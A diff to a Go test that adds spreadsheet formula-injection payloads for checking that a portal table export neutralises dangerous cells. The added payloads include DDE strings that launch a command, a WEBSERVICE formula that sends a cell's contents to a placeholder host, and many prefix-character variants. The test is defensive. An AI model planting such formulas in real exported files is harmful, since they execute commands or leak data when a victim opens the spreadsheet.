@@ -16,10 +16,13 @@ import (
 // formulas are cells that a spreadsheet would run.
 var formulas = []string{
 	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x\")", "＝1+1", "＋1", "－1", "＠SUM(A1)",
+	"=", "+", "-", "@", "=A1", "-2+3+cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "@cmd", "=WEBSERVICE(\"http://x/?\"&A1)", "=IMPORTXML(A1,\"//a\")", "=DDE(\"a\";\"b\";\"c\")",
+	"＝cmd|'/C calc'!A0", "＋cmd", "\t\t=1", "\r\n=1", "\x0b=1", "\x0c=1", "\u2028=1", "\u2066=1", "\u061c=1", "\U000e0041=1",
 	"\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\x1b=1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\xff=1",
 }
 
 func TestThreat49CSVFormula(t *testing.T) {
+	require.GreaterOrEqual(t, len(formulas), 40)
 	for _, payload := range formulas {
 		for column := range portalTable(nil).header {
 			tab := portalTable([]wire.Portal{{Slug: "acme-corp", State: wire.StateReady}})
